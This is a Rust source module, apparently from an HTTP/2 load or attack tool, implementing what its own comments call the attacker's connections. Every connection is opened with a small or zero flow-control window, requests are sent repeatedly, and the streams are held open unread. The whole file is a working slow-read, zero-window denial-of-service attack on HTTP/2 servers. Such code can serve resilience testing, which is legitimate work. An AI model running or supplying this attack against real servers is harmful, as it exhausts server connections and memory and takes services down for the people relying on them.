//! HTTP/2 connections of the attacker's that ask and make room for few bytes of an answer or for none: their windows stay as
//! they are.

use std::net::SocketAddr;
use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use h2::SendStream;
use h2::client::{Builder, ResponseFuture, SendRequest};
use http::Request;
use http::request::Builder as Head;
use tokio::task::JoinSet;

/// Time within which a connection is taken, or it is not.
const PATIENCE: Duration = Duration::from_secs(10);

/// Request of an attack: its head, its body, and whether more of it may come.
#[derive(Debug)]
pub struct Asked {
    /// Method, path and headers.
    pub head: Head,
    /// All of the body that is sent.
    pub body: Bytes,
    /// True if the request is open still: a stream.
    pub open: bool,
}

/// Connections and their streams, held until they are dropped.
#[derive(Debug, Default)]
pub struct Unread {
    connections: JoinSet<()>,
    clients: Vec<SendRequest<Bytes>>,
    streams: Vec<(ResponseFuture, SendStream<Bytes>)>,
}

impl Unread {
    /// Opens so many connections with such a window for each stream, and asks on each as often.
    pub async fn begin(
        to: SocketAddr,
        window: u32,
        connections: usize,
        times: usize,
        ask: impl Fn() -> Asked,
    ) -> Self {
        let mut held = Self::default();
        for _ in 0..connections {
            // Refused: the attack does without.
            let _taken = tokio::time::timeout(PATIENCE, held.connect((to, window), times, &ask)).await;
        }
        held
    }

    /// Connections that nobody has ended.
    pub fn alive(&mut self) -> usize {
        while self.connections.try_join_next().is_some() {}
        self.connections.len()
    }

    async fn connect(
        &mut self,
        (to, window): (SocketAddr, u32),
        times: usize,
        ask: impl Fn() -> Asked,
    ) -> Result<()> {
        let stream = super::connect(to).await?;
        let (mut client, connection) =
            Builder::new().initial_window_size(window).handshake::<_, Bytes>(stream).await?;
        self.connections.spawn(async move { drop(connection.await) });
        for _ in 0..times {
            client = client.ready().await?;
            let Asked { head, body, open } = ask();
            let request: Request<()> = head.body(())?;
            let (response, mut sending) = client.send_request(request, body.is_empty() && !open)?;
            if !body.is_empty() || open {
                sending.send_data(body, !open)?;
            }
            self.streams.push((response, sending));
        }
        self.clients.push(client);
        Ok(())
    }
}
